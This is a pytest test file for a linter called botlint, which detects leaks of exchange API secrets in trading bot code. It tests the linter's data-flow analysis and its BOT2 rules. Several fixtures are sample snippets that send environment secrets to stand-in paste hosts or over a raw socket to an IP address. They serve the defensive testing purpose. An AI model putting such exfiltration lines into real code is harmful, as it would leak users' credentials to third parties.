"""The shared data-flow analysis (analysis/dataflow) and the BOT2 family on top of it."""
from __future__ import annotations

import pathlib
import re

import libcst as cst
import pytest

from botlint.analysis import ANALYSES
from botlint.analysis.imports import ImportMap
from botlint.engine import lint_source
from botlint.rule import FileContext, tracker
from botlint.walker import walk

from helpers import settings

SRC = pathlib.Path(__file__).resolve().parents[1] / "src" / "botlint"


def found(src: str, select=("BOT2",)):
    return [(f.line, f.code, f.message) for f in lint_source(src, "bot.py", settings(list(select)))]


def codes(src: str, select=("BOT2",)):
    return sorted((line, code) for line, code, _m in found(src, select))


def flow_of(src: str):
    """The DataFlow analysis of a module, walked the way the engine walks it."""
    ctx = FileContext(path="bot.py", source=src, settings=settings(["BOT2"]), imports=ImportMap())
    visitors = [tracker(ctx), ANALYSES["clients"](ctx), ANALYSES["dataflow"](ctx)]
    walk(cst.parse_module(src), visitors)
    return ctx.shared["dataflow"]


def test_no_rule_code_under_analysis():
    """The analysis package is rule-free: sinks are kinds, codes live in the rules."""
    hits = []
    for path in (SRC / "analysis").rglob("*.py"):
        for i, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if re.search(r"BOT\d{3}", line):
                hits.append(f"{path.relative_to(SRC)}:{i}")
    assert hits == []


def test_sites_by_kind_and_taint():
    from botlint.analysis.dataflow import CONSOLE, HTTP, LOG

    flow = flow_of("import os, logging, requests\nlog = logging.getLogger()\nK = os.environ['BINANCE_API_SECRET']\n"
                   "log.info('k %s', K)\nprint('hello')\nrequests.post('https://x.example.org', data=K)\n")
    assert [s.kind for s in flow.sites(LOG, CONSOLE, HTTP)] == [LOG, CONSOLE, HTTP]
    log_site, console_site, http_site = flow.sites(LOG, CONSOLE, HTTP)
    assert [s.label for s in flow.taint(log_site)] == ["BINANCE_API_SECRET"]
    assert flow.taint(console_site) == []
    assert http_site.host == "x.example.org"
    # any expression, evaluated where a site sits
    assert flow.eval(http_site.exprs[-1], at=http_site)


def test_a_new_sink_is_one_line_of_data(monkeypatch):
    from botlint.analysis import dataflow
    from botlint.analysis.dataflow import LOG, SinkSpec

    src = "import os\nimport auditlib\nauditlib.emit(os.environ['BYBIT_API_SECRET'])\n"
    assert codes(src) == []
    monkeypatch.setattr(dataflow, "SINK_SPECS", dataflow.SINK_SPECS + [SinkSpec(LOG, callees=("auditlib.emit",))])
    assert codes(src) == [(3, "BOT201")]


def test_each_bot2_code_is_its_own_rule_module():
    from botlint import registry

    registry.load()
    for code in ("BOT201", "BOT202", "BOT203", "BOT204", "BOT205", "BOT206", "BOT207"):
        rule = registry._RULES[code]
        assert rule.__module__.startswith(f"botlint.rules.bot2.{code.lower()}_"), code
        assert not rule.REPORTS, code  # no code reports for another


@pytest.mark.parametrize("code", ["BOT201", "BOT202", "BOT203", "BOT204", "BOT205", "BOT206", "BOT207"])
def test_a_code_selected_alone_still_reports(code):
    srcs = {
        "BOT201": "import os\nprint(os.environ['BINANCE_API_SECRET'])\n",
        "BOT202": "import os\nraise ValueError(os.environ['BINANCE_API_SECRET'])\n",
        "BOT203": "import os\nfrom telegram import Bot\nBot('t').send_message(1, os.environ['BINANCE_API_SECRET'])\n",
        "BOT204": "import os\nopen('k.txt', 'w').write(os.environ['BINANCE_API_SECRET'])\n",
        "BOT205": "import os, requests\n"
                  "requests.post('https://paste.example.net', data=os.environ['BINANCE_API_SECRET'])\n",
        "BOT206": "import ccxt, os\nex = ccxt.binance({'apiKey': os.environ['BINANCE_API_KEY'], 'verbose': True})\n",
        "BOT207": "import ccxt, os, logging\nlogging.basicConfig(level=logging.DEBUG)\n"
                  "ex = ccxt.binance({'apiKey': os.environ['BINANCE_API_KEY']})\n",
    }
    assert [c for _l, c in codes(srcs[code], (code,))] == [code]


# -- behaviour changed by the move (each fails on 0.1.0's taint.py) ------------------------------

def test_ccxt_clients_come_from_the_shared_tracker():
    """A class bound to a name (``klass = ccxt.binance``) builds a client: the tracker knows it,
    taint's own regex did not."""
    src = ("import ccxt, os\nklass = ccxt.binance\n"
           "ex = klass({'apiKey': os.environ['BINANCE_API_KEY'], 'verbose': True})\n")
    assert codes(src) == [(3, "BOT206")]


def test_post_in_a_module_importing_a_discord_helper_is_still_http():
    src = ("import os, requests\nimport dhooks\n"
           "requests.post('https://paste.example.net/api', data=os.environ['BINANCE_API_SECRET'])\n")
    assert codes(src) == [(3, "BOT205")]


def test_write_on_a_raw_socket_is_egress():
    src = ("import os, ssl, socket\nraw = socket.create_connection(('45.77.12.9', 443))\n"
           "s = ssl.wrap_socket(raw)\ns.write(os.environ['BINANCE_API_SECRET'].encode())\n")
    assert codes(src) == [(4, "BOT205")]


@pytest.mark.parametrize("name", ["saved_api_secret", "stored_password", "sent_api_key"])
def test_participles_describe_the_credential_not_a_flag(name):
    src = f"import logging\ndef show({name}):\n    logging.info('%s', {name})\n"
    assert codes(src) == [(3, "BOT201")]


@pytest.mark.parametrize("name", ["has_api_key", "max_secret_len", "num_api_keys", "print_api_key", "invalid_api_key"])
def test_flag_names_are_not_credentials(name):
    from botlint.analysis import names

    assert names.credential_kind(name) is None
    assert names.classify(name) is None  # one flag-word list for BOT1 and BOT2
